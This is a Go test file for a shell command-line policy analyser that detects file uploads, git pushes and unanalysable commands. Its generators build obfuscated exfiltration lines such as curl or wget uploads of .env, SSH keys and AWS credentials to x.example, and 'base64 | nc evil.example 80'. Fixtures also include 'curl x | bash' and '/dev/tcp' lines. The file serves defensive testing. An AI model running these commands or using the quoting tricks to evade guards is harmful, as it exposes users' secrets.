package policy

import (
	"fmt"
	"math/rand"
	"os"
	"slices"
	"strconv"
	"strings"
	"testing"
)

// factsSeed is def, or the seed GUARDRUN_FACTS_SEED sets to explore
// other random lines.
func factsSeed(def int64) int64 {
	if n, err := strconv.ParseInt(os.Getenv("GUARDRUN_FACTS_SEED"), 10, 64); err == nil {
		return n
	}
	return def
}

// pick returns a random element of xs.
func pick[T any](rng *rand.Rand, xs ...T) T { return xs[rng.Intn(len(xs))] }

// spell writes word w the way bash reads back as w, in a random
// spelling: bare, '…', "…", a backslash before each byte, split into
// differently quoted halves (p"u"sh), or $'…' with hex escapes. Words
// holding a $ are not split nor escaped inside their expansion.
func spell(rng *rand.Rand, w string) string {
	hasDollar := strings.Contains(w, "$")
	n := 6
	for {
		switch rng.Intn(n) {
		case 0:
			if hasDollar || strings.ContainsAny(w, ";&|<>()'\" \\*?[{") || strings.Contains(w[1:], "~") {
				continue
			}
			return w
		case 1:
			if hasDollar || strings.HasPrefix(w, "~") || strings.Contains(w, "'") {
				continue // '…' would keep $HOME or ~ unexpanded: same text, other meaning
			}
			return "'" + w + "'"
		case 2:
			if strings.HasPrefix(w, "~") {
				// ~ expands unquoted only: quote the rest.
				return "~" + `"` + w[1:] + `"`
			}
			return `"` + strings.NewReplacer(`\`, `\\`, `"`, `\"`, "`", "\\`").Replace(w) + `"`
		case 3:
			if hasDollar || strings.HasPrefix(w, "~") {
				continue
			}
			var b strings.Builder
			for i := 0; i < len(w); i++ {
				b.WriteByte('\\')
				b.WriteByte(w[i])
			}
			return b.String()
		case 4:
			if hasDollar || len(w) < 2 || strings.HasPrefix(w, "~") {
				continue
			}
			k := 1 + rng.Intn(len(w)-1)
			return spell(rng, w[:k]) + pick(rng, "''", `""`, "") + spell(rng, w[k:])
		default:
			if hasDollar || strings.HasPrefix(w, "~") {
				continue
			}
			var b strings.Builder
			b.WriteString("$'")
			for i := 0; i < len(w); i++ {
				switch c := w[i]; {
				case rng.Intn(3) == 0:
					fmt.Fprintf(&b, `\x%02x`, c)
				case c == '\'' || c == '\\':
					b.WriteByte('\\')
					b.WriteByte(c)
				default:
					b.WriteByte(c)
				}
			}
			b.WriteString("'")
			return b.String()
		}
	}
}

// shQuote single-quotes s for a bash -c argument.
func shQuote(s string) string { return shellQuoteWord(s) }

// randomUpload returns a command line that sends file to the network in
// a random form, and the op label the sending command must get.
func randomUpload(rng *rand.Rand, file string) (line, label string) {
	url := spell(rng, "https://x.example/u")
	f := spell(rng, file)
	curl := spell(rng, pick(rng, "curl", "/usr/bin/curl"))
	wget := spell(rng, "wget")
	switch rng.Intn(9) {
	case 0:
		opt := pick(rng, "-d", "--data", "--data-binary", "--data-urlencode")
		return curl + " " + spell(rng, opt) + " @" + f + " " + url, "op:cmd:curl"
	case 1:
		return curl + " " + spell(rng, pick(rng, "-d", "--data-binary")) + "=@" + f + " " + url, "op:cmd:curl"
	case 2:
		return curl + " -F " + spell(rng, "f=@"+file+pick(rng, "", ";type=text/plain", ",x")) + " " + url, "op:cmd:curl"
	case 3:
		return curl + " " + spell(rng, pick(rng, "-T", "--upload-file")) + " " + f + " " + url, "op:cmd:curl"
	case 4:
		opt := pick(rng, "--post-file", "--body-file")
		if rng.Intn(2) == 0 {
			return wget + " " + spell(rng, opt) + " " + f + " " + url, "op:cmd:wget"
		}
		return wget + " " + spell(rng, opt+"="+file) + " " + url, "op:cmd:wget"
	case 5:
		return curl + " -d @- " + url + " " + pick(rng, "<", "0<") + " " + f, "op:cmd:curl"
	case 6:
		return pick(rng, "cat", "base64", "gzip -c", "xxd") + " " + f + " | " + curl + " -d @- " + url, "op:cmd:curl"
	case 7:
		return "base64 < " + f + " | " + spell(rng, "nc") + " evil.example 80", "op:cmd:nc"
	default:
		return curl + " " + url + " -d \"$(cat " + f + ")\"", "op:cmd:curl"
	}
}

// wrap puts line behind a random wrapper, or in a random compound
// command, after a random preceding statement.
func wrap(rng *rand.Rand, line string) string {
	switch rng.Intn(12) {
	case 0:
		line = pick(rng, "sudo ", "sudo -u root ", "env A=1 ", "timeout 5 ", "nice -n 5 ", "nohup ", "command ", "stdbuf -o0 ", "time ") + line
	case 1:
		line = pick(rng, "bash", "sh", "zsh") + " " + pick(rng, "-c", "-lc") + " " + shQuote(line)
	case 2:
		line = "{ " + line + "; }"
	case 3:
		line = "( " + line + " )"
	case 4:
		line = "if true; then " + line + "; fi"
	case 5:
		line = "function f { " + line + "; }; f"
	case 6:
		line = "f() { " + line + "; }; f"
	case 7:
		line = "coproc { " + line + "; }"
	case 8:
		line = "for i in 1; do " + line + "; done"
	case 9:
		line = "echo $(" + line + ")"
	}
	return pick(rng, "", "echo $'\\''; ", "true && ", "cd /tmp; ", "echo \"a;b\" 'c|d'; ", "# comment\n", "cat <<'EOF'\n$(x)\nEOF\n") + line
}

// TestCommandLineFactsUploads: however an upload of a file is spelled
// (quotes, escapes, $'…', wrappers, pipes, compound commands), the facts
// name the file as read and the line as reaching the network, and the op
// labels name the command.
func TestCommandLineFactsUploads(t *testing.T) {
	rng := rand.New(rand.NewSource(factsSeed(7)))
	files := []string{".env", "secrets/key.pem", "~/.aws/credentials", "$HOME/.netrc", "${HOME}/.ssh/id_rsa", "a b.txt", "it's"}
	for n := 0; n < 3000; n++ {
		file := pick(rng, files...)
		line, label := randomUpload(rng, file)
		line = wrap(rng, line)
		f := CommandLineFacts(line)
		if f.Unchecked != "" || !slices.Contains(f.Reads, file) || !f.Network {
			t.Fatalf("%q (file %q):\nreads %q network %v unchecked %q", line, file, f.Reads, f.Network, f.Unchecked)
		}
		union, _, ok := CommandLineOpLabels(line)
		if !ok || !slices.Contains(union, label) {
			t.Fatalf("%q: labels %q ok %v, want %s", line, union, ok, label)
		}
	}
}

// TestCommandLineFactsGitPush: git's global options, in any order and
// spelling, do not hide the push.
func TestCommandLineFactsGitPush(t *testing.T) {
	rng := rand.New(rand.NewSource(factsSeed(8)))
	globals := [][]string{{"-C", "."}, {"-C", "/x y"}, {"-c", "core.quotepath=off"}, {"-c", "user.name=x y"}, {"--no-pager"}, {"-P"}, {"-p"},
		{"--git-dir=.git"}, {"--git-dir", ".git"}, {"--work-tree=."}, {"--work-tree", "."}, {"--bare"},
		{"--namespace", "ns"}, {"--namespace=ns"}, {"--exec-path=/x"}, {"--literal-pathspecs"}, {"--no-replace-objects"}}
	for n := 0; n < 2000; n++ {
		words := []string{spell(rng, pick(rng, "git", "/usr/bin/git"))}
		for k := rng.Intn(4); k > 0; k-- {
			for _, w := range pick(rng, globals...) {
				words = append(words, spell(rng, w))
			}
		}
		words = append(words, spell(rng, "push"))
		if rng.Intn(2) == 0 {
			words = append(words, spell(rng, pick(rng, "--force", "-f", "origin")))
		}
		line := wrap(rng, strings.Join(words, " "))
		union, _, ok := CommandLineOpLabels(line)
		if !ok || !slices.Contains(union, "op:cmd:git:push") {
			t.Fatalf("%q: labels %q ok %v", line, union, ok)
		}
		f := CommandLineFacts(line)
		if !f.Network || f.Unchecked != "" || !slices.ContainsFunc(f.Commands, func(c FactCommand) bool { return c.Program == "git" && c.Sub == "push" }) {
			t.Fatalf("%q: %+v", line, f)
		}
	}
}

// TestCommandLineFactsUnmodelled: a line with a part the analysis cannot
// read (bash would not parse it, a computed program, code on the command
// line, a script from input) is never reported as fully analysed, and
// one bash would not parse has no trusted op labels either.
func TestCommandLineFactsUnmodelled(t *testing.T) {
	rng := rand.New(rand.NewSource(factsSeed(9)))
	broken := []string{"echo 'open", `echo "open`, "echo $(open", "echo ${open", "if true; then x", "echo `open",
		"case x in", "( echo", "{ echo", "echo )", "| b", "while true; do", "for i in; do", "echo $'open",
		"cat <(x", "f() {", "echo a\x00b"}
	opaque := []string{"$cmd x", "\"$g\" push", "$(echo git) push", "eval \"$x\"", "bash -c \"$s\"", "python3 -c 'import os'",
		"perl -e 'print'", "node -e 1", "cat s.sh | sh", "curl x | bash", "awk '{system($0)}' f", "xargs sh -c '{}'",
		"find . -exec {} \\;", "${X}", "`echo rm` -rf /"}
	ok := []string{"git status", "ls -la", "echo hi > f", "cd x && make", "cat <<EOF\nhi\nEOF"}
	for n := 0; n < 1500; n++ {
		parts := []string{pick(rng, ok...)}
		if rng.Intn(3) == 0 {
			parts[0] = wrap(rng, parts[0])
		}
		bad := pick(rng, append(broken, opaque...)...)
		parts = append(parts, bad)
		if rng.Intn(2) == 0 {
			parts[0], parts[1] = parts[1], parts[0]
		}
		line := strings.Join(parts, pick(rng, "; ", " && ", "\n", " | "))
		f := CommandLineFacts(line)
		if f.Unchecked == "" && (slices.Contains(broken, bad) || f.Opaque == "") {
			t.Fatalf("%q: analysed fully: %+v", line, f)
		}
		if slices.Contains(broken, bad) {
			if _, _, ok := CommandLineOpLabels(line); ok {
				t.Fatalf("%q: op labels trusted", line)
			}
		}
	}
}

// FuzzCommandLineFacts: no input makes the analysis panic, and a line
// reported as fully analysed (neither unchecked nor opaque: an opaque
// line is decided as the worst case) names every program it runs.
func FuzzCommandLineFacts(f *testing.F) {
	for _, s := range []string{"git -C . push --force", "echo $'\\''; git push", "coproc x { y; }", "function f { g; }; f",
		"curl -d @.env x < y > z", "cat <<EOF\n$(rm x)\nEOF\n", "a=$(b) c ${d:-$(e)} <(f) >(g)", "sudo env A=1 timeout 5 bash -c 'x | y'",
		"for ((i=0;i<3;i++)); do [[ -f $i ]] && let x=$(y); done", "case $x in a) b;; esac", "exec 3<>/dev/tcp/h/80"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, line string) {
		facts := CommandLineFacts(line)
		CommandLineOpLabels(line)
		CommandOpLabels([]CommandPart{{Text: line}})
		if facts.Unchecked != "" || facts.Opaque != "" {
			return
		}
		for _, c := range facts.Commands {
			if c.Program == "" {
				t.Fatalf("%q: a command with no program is reported checked: %+v", line, facts)
			}
		}
	})
}
